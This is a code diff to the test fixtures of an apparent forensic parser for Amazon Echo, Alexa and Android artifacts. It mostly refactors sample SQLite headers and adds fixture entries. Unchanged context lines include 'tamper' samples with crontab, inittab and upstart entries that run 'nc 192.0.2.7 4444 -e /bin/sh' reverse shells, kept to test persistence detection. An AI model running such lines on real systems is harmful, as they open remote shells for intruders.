@@ -26,8 +26,6 @@ from parsers.registry import claiming
 DEFINITIONS = Path(echoforensics.plaso_plugin.__file__).parent / "data/artifacts/alexa.yaml"
 SHIPPED = Path(artifacts.__file__).parent / "data"
 
-SQLITE = b"SQLite format 3\0".ljust(100, b"\0")
-ALARMS = b"CREATE TABLE Notifications (id TEXT, client TEXT, type TEXT, time INTEGER, earcon TEXT)"
 PREFERENCES = b"<?xml version='1.0' encoding='utf-8' standalone='yes' ?>\n<map />\n"
 LOG = b"20211231:165212 ASRD[1596]: I WhadGroupLoggingUtil:logGroupMetric:action=wakeWordReceived:\n"
 SYSLOG = b"Dec 29 14:10:36 localhost kernel: [   12.0] booted\n"
@@ -42,63 +40,55 @@ SIMPLE_KEY = b"https://pitangui.amazon.com/api/cards"
 UUID = "01234567-89ab-cdef-0123-456789abcdef"
 ADDRESS = "50:F5:DA:BD:2A:EF"
 
+
+def _database(table: bytes) -> tuple[str, bytes]:
+    return "sqlite", b"SQLite format 3\0".ljust(100, b"\0") + table
+
+
 #: A sample of each kind of file: which parser claims it, and what it begins with.
 KINDS: dict[str, tuple[str, bytes]] = {
-    "alarms": ("sqlite", SQLITE + ALARMS),
-    "any database": ("sqlite", SQLITE),
+    "alarms": _database(b"CREATE TABLE Notifications (id TEXT, client TEXT, type TEXT, time INTEGER, earcon TEXT)"),
+    "any database": _database(b""),
     "backup info": ("ios_backup", PLIST % b"Last Backup Date"),
     "backup manifest": ("ios_backup", PLIST % b"IsEncrypted"),
     "backup status": ("ios_backup", PLIST % b"SnapshotState"),
-    "backup list": ("sqlite", SQLITE + b"CREATE TABLE Files (fileID TEXT, domain TEXT, relativePath TEXT, flags INT)"),
+    "backup list": _database(b"CREATE TABLE Files (fileID TEXT, domain TEXT, relativePath TEXT, flags INT)"),
     "bluetooth names": ("bluez_folder", b"D8:E0:E1:2F:E7:7D [TV] Samsung\n"),
     "bluetooth peer": ("bluez_storage", b"[General]\nName=TV\n"),
     "bluetooth list": ("echo_btmd", b""),
-    "calendar": (
-        "sqlite",
-        SQLITE + b"CREATE TABLE Events (_id, calendar_id, title, dtstart INTEGER, eventTimezone TEXT)",
-    ),
+    "calendar": _database(b"CREATE TABLE Events (_id, calendar_id, title, dtstart INTEGER, eventTimezone TEXT)"),
     "chromium block": ("chromium_blockfile_companions", b"\xc3\xca\x04\xc1"),
     "chromium index": ("chromium_simple_index", bytes(8) + b"\x6f\x79\x20\x72\x65\x74\x6e\x65"),
-    "chromium entry": (
-        "chromium_simple_cache",
-        bytes.fromhex("305c72a71b6dfbfc05000000") + len(SIMPLE_KEY).to_bytes(4, "little") + bytes(8) + SIMPLE_KEY,
-    ),
-    "cookies": (
-        "sqlite",
-        SQLITE + b"CREATE TABLE cookies (creation_utc, host_key, name, expires_utc, last_access_utc)",
-    ),
+    "chromium entry": ("chromium_simple_cache", bytes.fromhex("305c72a71b6dfbfc05000000") + len(SIMPLE_KEY).to_bytes(
+        4, "little") + bytes(8) + SIMPLE_KEY),
+    "cookies": _database(b"CREATE TABLE cookies (creation_utc, host_key, name, expires_utc, last_access_utc)"),
     "cookie jar": ("binary_cookies", b"cook" + bytes(8)),
     "counter": ("echo_log_counter", b"00003921"),
     "cron table": ("state_files", b"*/15 * * * * /usr/local/bin/save-the-date\n"),
-    "data store": ("sqlite", SQLITE + b"CREATE TABLE DataItem (key TEXT PRIMARY KEY, value TEXT)"),
+    "data store": _database(b"CREATE TABLE DataItem (key TEXT PRIMARY KEY, value TEXT)"),
     "events": ("app_events", json.dumps(EVENT).encode() + b"\n"),
-    "history": (
-        "sqlite",
-        SQLITE + b"CREATE TABLE urls (id, url LONGVARCHAR, title, visit_count INTEGER, last_visit_time INTEGER)",
-    ),
+    "history": _database(b"CREATE TABLE urls (id, url LONGVARCHAR, title, visit_count INT, last_visit_time INTEGER)"),
     "image": ("glide_journal", b"\xff\xd8\xff\xe0"),
     "ios preferences": ("ios_preferences", PLIST % b"a"),
     "journal": ("glide_journal", b"libcore.io.DiskLruCache\n1\n1\n1\n\n"),
+    "leveldb": ("leveldb_storage", b"MANIFEST-000001\n"),
     "log": ("echo_messages", LOG),
     "logcat": ("fireos_log", LOGCAT),
-    "logins": (
-        "sqlite",
-        SQLITE + b"CREATE TABLE logins (origin_url, username_value, password_value BLOB, date_created INTEGER)",
-    ),
-    "map": ("sqlite", SQLITE + b"CREATE TABLE accounts (_id INTEGER, directed_id TEXT UNIQUE, display_name TEXT)"),
+    "logins": _database(b"CREATE TABLE logins (origin_url, username_value, password_value BLOB, date_created INTEGER)"),
+    "map": _database(b"CREATE TABLE accounts (_id INTEGER, directed_id TEXT UNIQUE, display_name TEXT)"),
     "metrics": ("echo_metrics_batch", b"\x0a\x20" + b"a" * 32 + b"\x12\x0eAB72C64C86AW2X\x1a\x07DOPPLER"),
-    "notification log": (
-        "sqlite",
-        SQLITE + b"CREATE TABLE log (_id, event_type INT, event_time_ms INT, pkg TEXT, when_ms INT)",
-    ),
+    "notification log": _database(b"CREATE TABLE log (_id, event_type INT, event_time_ms INT, pkg TEXT, when_ms INT)"),
     "okhttp body": ("okhttp_cache", b"\x1f\x8b"),
-    "preferences": ("android_preferences", PREFERENCES),
+    "packages": ("android_packages", b"com.amazon.dee.app 10061 0 /data/data/com.amazon.dee.app\n"),
+    "policy": ("speech_policy", b"{}"), "preferences": ("android_preferences", PREFERENCES),
+    "property": ("android_property", b"Europe/Berlin"),
     "registration": ("echo_registration", b"{}"),
     "remote shell": ("tamper", REMOTE_SHELL),
     "remote crontab": ("tamper", b"* * * * * nc 192.0.2.7 4444 -e /bin/sh\n"),
     "remote inittab": ("tamper", b"a:2345:respawn:/bin/nc 192.0.2.7 4444 -e /bin/sh\n"),
     "remote upstart": ("tamper", b"start on startup\nexec nc 192.0.2.7 4444 -e /bin/sh\n"),
     "screen": ("task_snapshot", b"\xff\xd8\xff"),
+    "settings": ("android_settings_xml", b"<?xml version='1.0'?>\n<settings version=\"1\"></settings>\n"),
     "smart home": ("echo_smarthome", b"{}"),
     "state audio": ("state_files", b"Not Muted\n"),
     "state date": ("state_files", b"010601302022.02\n"),
@@ -127,6 +117,7 @@ WEB_VIEW = "com.amazon.dee.app/app_webview"
 CACHED = "com.amazon.dee.app/cache/WebView/Default/HTTP Cache"
 SILK = "com.amazon.cloud9/app_amazon_webview/amazon_webview"
 CHROME = "com.android.chrome"
+STORES = ("Local Storage/leveldb", "Session Storage", "IndexedDB/https_alexa.amazon.com_0.indexeddb.leveldb")
 CONTAINER = "Containers/Data/Application/0A1B"
 SHARED = "Containers/Shared/AppGroup/0A1B"
 ENTRY = "0123456789abcdef_0"
@@ -217,6 +208,15 @@ SAMPLES: tuple[tuple[str, tuple[str, ...], tuple[str, ...]], ...] = (
     ("screen", DATA, ("system_ce/0/snapshots/12.jpg",)),
     ("calendar", APPS, ("com.android.providers.calendar/databases/calendar.db",)),
     ("notification log", DATA, ("system/notification_log.db",)),
+    ("any database", APPS, (
+        "com.android.providers.settings/databases/settings.db", "com.amazon.headlessbeacon/databases/x.db",
+    )),
+    ("any database", DATA, ("system/users/0/accounts.db", "system_ce/0/accounts_ce.db", "system_de/0/accounts_de.db")),
+    ("packages", DATA, ("system/packages.list",)), ("policy", DATA, ("media/0/csm/policy.json",)),
+    ("property", DATA, ("property/persist.sys.timezone",)), ("settings", DATA, ("system/users/0/settings_global.xml",)),
+    ("leveldb", APPS, tuple(f"{folder}/{name}/CURRENT" for name in STORES for folder in (
+        WEB_VIEW, f"{WEB_VIEW}/Default", SILK, f"{CHROME}/app_chrome/Default",
+    ))),
     ("visual id", APPS, (f"com.amazon.edgecvs/files/album/{UUID}/{UUID}.json",)),
     ("visual id", APPS, (f"com.amazon.edgecvs/files/album/{UUID}.json",)),
     ("events", APPS, ("com.amazon.dee.app/app_901ad8be-d34d/events/eventsFile",)),
